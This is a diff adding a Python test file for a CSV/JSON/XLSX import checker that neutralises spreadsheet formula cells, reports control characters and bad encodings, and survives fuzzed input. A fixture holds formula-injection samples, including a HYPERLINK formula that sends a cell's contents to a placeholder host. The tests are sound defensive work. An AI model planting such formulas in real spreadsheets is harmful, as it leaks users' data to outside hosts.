@@ -1,0 +1,105 @@
+"""Hostile or broken content is reported or neutralised, never a crash."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from expediente.tables import Limits, ProblemCode, check_file, neutralise_formula, read_records
+
+HEADER = "record_id,name,kind,description\n"
+
+
+def test_formula_cells_are_kept_verbatim_on_import(write_file: Callable[..., Path]) -> None:
+    text = HEADER + 'S1,=HYPERLINK("http://x.invalid/?"&A1),source.press,@SUM(1+1)\n'
+    [record] = read_records(write_file("s.csv", text), "sources")
+    assert record.name == '=HYPERLINK("http://x.invalid/?"&A1)'
+    assert record.description == "@SUM(1+1)"
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        ("=CMD()", "'=CMD()"),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("María", "María"),
+        ("", ""),
+    ],
+)
+def test_neutralise_formula_for_export(value: str, safe: str) -> None:
+    assert neutralise_formula(value) == safe
+
+
+@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f"])
+def test_control_characters_are_reported(write_file: Callable[..., Path], char: str) -> None:
+    path = write_file("s.csv", HEADER + f"S1,Uno{char}Dos,source.press,\nS2,Tres,source.press,\n")
+    report = check_file(path, "sources")
+    assert [(p.row, p.column, p.code) for p in report.problems] == [
+        (2, "name", ProblemCode.BAD_ENCODING)
+    ]
+    assert report.valid_rows == 1
+
+
+def test_utf16_file_without_bom_is_reported_not_crashed(write_file: Callable[..., Path]) -> None:
+    path = write_file("s.csv", (HEADER + "S1,Uno,source.press,\n").encode("utf-16-le"))
+    report = check_file(path, "sources")
+    assert not report.ok
+    assert ProblemCode.BAD_ENCODING in report.counts
+
+
+def test_cell_beyond_the_parser_limit(write_file: Callable[..., Path]) -> None:
+    huge = "x" * 3_000
+    path = write_file("s.csv", HEADER + f'S1,Uno,source.press,"{huge}"\nS2,Dos,source.press,\n')
+    limits = Limits(max_cell_chars=100, max_long_text_chars=1_000)
+    report = check_file(path, "sources", limits=limits)
+    assert report.problem_count >= 1
+    assert report.problems[0].row == 2
+
+
+def test_json_object_over_the_row_limit(write_file: Callable[..., Path]) -> None:
+    big = '{"record_id": "S1", "name": "%s", "kind": "source.press"}' % ("n" * 5_000)
+    small = '{"record_id": "S2", "name": "Dos", "kind": "source.press"}'
+    limits = Limits(max_row_bytes=1_000)
+    report = check_file(write_file("s.jsonl", big + "\n" + small + "\n"), "sources", limits=limits)
+    assert [(p.row, p.code) for p in report.problems] == [(1, ProblemCode.MALFORMED_FILE)]
+    assert report.valid_rows == 1
+    array = write_file("s.json", f"[{small}, {big}]")
+    report = check_file(array, "sources", limits=limits)
+    assert [(p.row, p.code) for p in report.problems] == [(2, ProblemCode.MALFORMED_FILE)]
+
+
+def test_tabs_and_newlines_inside_cells_are_fine(write_file: Callable[..., Path]) -> None:
+    path = write_file("s.csv", HEADER + 'S1,Uno,source.press,"a\tb\r\nc"\n')
+    [record] = read_records(path, "sources")
+    assert record.description == "a\tb\r\nc"
+
+
+@pytest.mark.parametrize("seed", range(12))
+def test_random_bytes_never_crash(tmp_path: Path, seed: int) -> None:
+    rng = random.Random(seed)
+    body = bytes(rng.randrange(256) for _ in range(rng.randint(0, 3_000)))
+    for suffix, prefix in (
+        (".csv", HEADER.encode()),
+        (".json", b"["),
+        (".jsonl", b""),
+        (".xlsx", b"PK\x03\x04"),
+    ):
+        path = tmp_path / f"random{suffix}"
+        path.write_bytes(prefix + body)
+        report = check_file(path, "sources")  # must return, whatever it finds
+        assert report.rows >= 0
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_random_text_rows_never_crash(write_file: Callable[..., Path], seed: int) -> None:
+    rng = random.Random(seed)
+    alphabet = 'abcñá,;"\n\r\t=+-@/0123456789 \x00\u202e\ufeff'
+    body = "".join(rng.choice(alphabet) for _ in range(4_000))
+    report = check_file(write_file("s.csv", HEADER + body), "sources")
+    assert report.rows >= 0
